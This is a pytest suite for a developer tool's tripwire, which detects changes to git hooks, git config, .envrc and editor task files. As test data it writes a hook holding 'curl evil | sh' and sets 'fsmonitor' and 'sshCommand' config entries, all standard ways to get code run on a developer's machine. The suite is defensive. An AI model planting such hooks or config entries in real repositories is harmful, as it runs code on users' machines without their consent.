"""The tripwire on project files the host runs (mariner_dev/tripwire.py): what it watches, how
it words a change, and what it costs the exec client."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from mariner_dev import tripwire

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture
def repo(tmp_path, require_git):
    directory = tmp_path / "api"
    directory.mkdir()
    subprocess.run(["git", "init", "-q", str(directory)], check=True)
    (directory / ".envrc").write_text("use flake\n")
    return directory


@pytest.fixture
def require_git():
    from support.tools import require_tool

    require_tool("git")


def _changes(directory: Path) -> dict[str, str]:
    return {c.rel: c.what for c in tripwire.changes(str(directory))}


def test_nothing_changed_nothing_reported(repo):
    tripwire.record_baseline(str(repo))
    assert _changes(repo) == {}
    (repo / "src.py").write_text("print(1)\n")       # ordinary project files are not watched
    (repo / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")  # never run
    assert _changes(repo) == {}


def test_each_kind_of_change_is_named(repo):
    hook = repo / ".git" / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\ntrue\n")
    tripwire.record_baseline(str(repo))
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    os.chmod(repo / ".git" / "hooks" / "pre-commit", 0o755)
    os.chmod(hook, 0o755)
    (repo / ".envrc").unlink()
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text("{}")
    (repo / ".git" / "config").write_text((repo / ".git" / "config").read_text()
                                          + "[core]\n\tfsmonitor = ./x\n")
    assert _changes(repo) == {
        ".git/hooks/pre-commit": "is new and executable",
        ".git/hooks/post-checkout": "was made executable",
        ".envrc": "was removed",
        ".vscode/tasks.json": "is new",
        ".git/config": "was changed",
    }
    line = next(c for c in tripwire.changes(str(repo)) if c.rel == ".git/hooks/pre-commit").line()
    assert "git runs these hooks" in line and "mariner trust" in line
    assert str(repo / ".git" / "hooks" / "pre-commit") in line


def test_record_baseline_never_moves_an_existing_one(repo):
    tripwire.record_baseline(str(repo))
    (repo / ".git" / "hooks" / "pre-push").write_text("x")
    tripwire.record_baseline(str(repo))              # what every `up` calls
    assert ".git/hooks/pre-push" in _changes(repo)


def test_hooks_path_includes_and_submodules_are_followed(repo):
    (repo / ".githooks").mkdir()
    (repo / "extra.gitconfig").write_text("[alias]\n\tst = status\n")
    with open(repo / ".git" / "config", "a") as fh:
        fh.write('[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../extra.gitconfig\n')
    (repo / ".git" / "modules" / "lib" / "hooks").mkdir(parents=True)
    (repo / ".git" / "modules" / "lib" / "config").write_text("[core]\n")
    tripwire.record_baseline(str(repo))
    (repo / ".githooks" / "pre-commit").write_text("#!/bin/sh\n")
    (repo / "extra.gitconfig").write_text("[core]\n\tsshCommand = evil\n")
    (repo / ".git" / "modules" / "lib" / "hooks" / "post-merge").write_text("#!/bin/sh\n")
    (repo / ".git" / "modules" / "lib" / "config").write_text("[core]\n\tfsmonitor = x\n")
    assert _changes(repo) == {
        ".githooks/pre-commit": "is new",
        "extra.gitconfig": "was changed",
        ".git/modules/lib/hooks/post-merge": "is new",
        ".git/modules/lib/config": "was changed",
    }


def test_a_hook_replaced_by_a_symlink(repo, tmp_path):
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    tripwire.record_baseline(str(repo))
    (repo / ".git" / "hooks" / "pre-commit").unlink()
    (repo / ".git" / "hooks" / "pre-commit").symlink_to("/tmp/x")
    (repo / ".pre-commit-config.yaml").symlink_to("/etc/passwd")
    assert _changes(repo) == {
        ".git/hooks/pre-commit": "was replaced: it was a file, now it is a link",
        ".pre-commit-config.yaml": "is new: a symbolic link to /etc/passwd",
    }


def test_a_fifo_among_the_hooks_does_not_hang(repo):
    tripwire.record_baseline(str(repo))
    os.mkfifo(repo / ".git" / "hooks" / "pre-commit")
    assert _changes(repo) == {".git/hooks/pre-commit": "is new (not a regular file)"}


def test_exec_reports_each_change_once_and_trust_acknowledges(repo):
    tripwire.record_baseline(str(repo))
    fast = tripwire.fast_file(str(repo))
    assert not tripwire.changed_since_seen(fast)
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    assert tripwire.changed_since_seen(fast)
    assert [line.split(" ")[0] for line in tripwire.report_new(str(repo))] == \
        [".git/hooks/pre-commit"]
    assert not tripwire.changed_since_seen(fast)
    assert tripwire.report_new(str(repo)) == []
    assert list(_changes(repo)) == [".git/hooks/pre-commit"]   # up and status still say it
    walk, found = tripwire.pending(str(repo))
    tripwire.acknowledge(str(repo), walk)
    assert _changes(repo) == {}


def test_a_touched_file_is_not_reported_and_the_fast_path_recovers(repo):
    tripwire.record_baseline(str(repo))
    fast = tripwire.fast_file(str(repo))
    text = (repo / ".envrc").read_text()
    (repo / ".envrc").write_text(text)              # same bytes, new ctime
    assert tripwire.changed_since_seen(fast)
    assert tripwire.report_new(str(repo)) == []
    assert not tripwire.changed_since_seen(fast)


def test_the_exec_clients_check_costs_well_under_a_millisecond(repo):
    """The exec client's budget: the module imports nothing the exec client has not, and the
    check of a real repository's table (every watched path stat'ed) takes far less than 1 ms."""
    for name in ("pre-commit", "pre-push", "post-checkout", "commit-msg"):
        (repo / ".git" / "hooks" / name).write_text("#!/bin/sh\n")
    (repo / ".devcontainer").mkdir()
    (repo / ".devcontainer" / "devcontainer.json").write_text("{}")
    tripwire.record_baseline(str(repo))
    fast = tripwire.fast_file(str(repo))
    code = (
        "import sys, time\n"
        "import mariner_dev.fastexec\n"
        "before = set(sys.modules)\n"
        "from mariner_dev import tripwire\n"
        "new = sorted(set(sys.modules) - before - {'mariner_dev.tripwire'})\n"
        "runs = []\n"
        "for _ in range(200):\n"
        "    t = time.perf_counter(); tripwire.after_command(sys.argv[1], sys.argv[2])\n"
        "    runs.append(time.perf_counter() - t)\n"
        "runs.sort()\n"
        "print(repr(new), runs[len(runs) // 2], len(__import__('marshal').load(open(sys.argv[1], 'rb'))))\n"
    )
    out = subprocess.run([sys.executable, "-S", "-c", code, fast, str(repo)], check=True,
                         capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert out.stderr == ""
    imported, median, entries = out.stdout.rsplit(" ", 2)
    assert eval(imported) == []
    assert 10 <= int(entries) <= 60, entries
    assert float(median) < 0.001, f"{float(median) * 1e6:.0f} us per check"
